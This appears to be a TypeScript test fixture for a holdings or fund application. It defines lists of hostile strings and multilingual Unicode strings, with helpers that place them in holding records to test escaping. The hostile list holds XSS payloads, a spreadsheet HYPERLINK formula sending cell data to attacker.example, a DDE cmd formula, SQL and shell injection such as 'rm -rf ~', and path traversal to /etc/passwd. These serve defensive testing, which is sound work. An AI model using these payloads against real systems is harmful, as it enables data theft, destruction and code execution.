import type { Holding } from "../holdings";

/** Text that must stay text: in a page, in a spreadsheet, in Markdown, in a shell, in a file. */
export const HOSTILE_TEXTS: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)>",
  '"><iframe src="javascript:alert(1)"></iframe>',
  "</style></script><b onmouseover=alert(1)>bold</b>",
  "<!-- comment --> <![CDATA[ data ]]> &lt;b&gt; &amp; &#x3c; &nbsp;",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "command:workbench.action.quit",
  "vscode://file/etc/passwd",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{1+1} <%= 1+1 %>",
  '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  " =1+1",
  "'=1+1",
  "tab\tinside, and\ttwo",
  "line one\nline two\r\nline three\rline four\u2028line five\u2029line six",
  "pipe | pipe || pipe",
  "`code` ``more`` ```fence\n```",
  "[link](https://attacker.example) ![picture](https://attacker.example/x.png)",
  "$(gear) $(alert) **bold** _italic_ # heading\n- item\n> quote",
  "back\\slash \\n \\t \\u0041 \\\\ C:\\temp\\new",
  "\"double\" 'single' “curly” ‘curly’ «guillemets»",
  "'; DROP TABLE clients; --",
  "$(rm -rf ~) `rm -rf ~` ; rm -rf ~ | sh && exit %PATH% ^& !x!",
  "../../../etc/passwd",
  "..\\..\\windows\\system32",
  "CON",
  "\u0000\u0001\u0002\u0007\b\u000b\f\u000e\u001b[31mred\u001b[0m\u007f\u0085\u009b",
  "\ud83d lone high, \ude00 lone low",
  "\ufeffbyte order mark, \ufffe\uffff no characters",
  "null",
  "undefined",
  "NaN",
  "__proto__",
];

/** Text of other scripts and of signs that are more than one code point. */
export const FOREIGN_TEXTS: readonly string[] = [
  "😀 🎉 💷",
  "👍🏻👍🏼👍🏽👍🏾👍🏿",
  "👩🏽‍⚕️ 👨‍👩‍👧‍👦 🏳️‍🌈 🏴‍☠️",
  "🇬🇧🇫🇷🇯🇵 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
  "1️⃣ ☎️ ☎︎ ©️",
  "مرحبا بالعالم",
  "صندوق الأسهم العالمية 40–85%",
  "שלום עולם",
  "קרן מניות (GB00B4PQW151) 2026",
  "English then عربى then English again",
  "\u202eevil.txt\u202c and \u2066isolated\u2069",
  "abc\u202edcba\u202cdef \u200frtl\u200e",
  "e\u0301 versus \u00e9; A\u030a versus \u00c5; \u1e69 versus s\u0323\u0307",
  "Z̸̢͎̎a̷̧͝l̵̰̈g̶̣̾o̴͔͐ t̷̮͠e̵̢͝x̶̪̕t̸̙̀",
  "東京証券取引所 上場投資信託",
  "日本語とEnglishの混在、「引用」。",
  "中文基金 (累积)",
  "한국어 펀드",
  "𠮷野家 𝒻𝓊𝓃𝒹 🄵🅄🄽🄳",
  "Ελληνικό αμοιβαίο κεφάλαιο ΐ",
  "Инвестиционный фонд",
  "กองทุนรวมหุ้นไทย",
  "हिन्दी निधि क्षि",
  "தமிழ் நிதி",
  "Straße İstanbul ıI ﬁnance ǅ",
  "zero\u200bwidth\u200cjoin\u200der\u2060soft\u00adhyphen",
  "\u00a0no-break\u202fspaces\u3000wide\u2003em",
  "ＦＵＬＬ ｗｉｄｔｈ １２３",
  "Ⅷ ½ ² ∑ √ ∞ ≠ € £ ¥ ₿",
  "Łódź, Kraków, Çeşme, Ñandú, Þórr, Ærø",
];

/** A fund and a note that would do something where text is taken for more. */
export function hostileHolding(holding: Holding, index: number): unknown {
  const text = HOSTILE_TEXTS[index % HOSTILE_TEXTS.length] ?? "";
  return {
    ...holding,
    fund: text,
    note: text,
    details: { text, list: [text, text] },
    "<i>column</i> | `name`\t=1+1": text,
  };
}

/** A fund and a note in another script, with a column of such a name. */
export function foreignHolding(holding: Holding, index: number): unknown {
  const text = FOREIGN_TEXTS[index % FOREIGN_TEXTS.length] ?? "";
  return {
    ...holding,
    fund: text,
    note: text,
    הערה: text,
    "備考 📝": [text],
  };
}
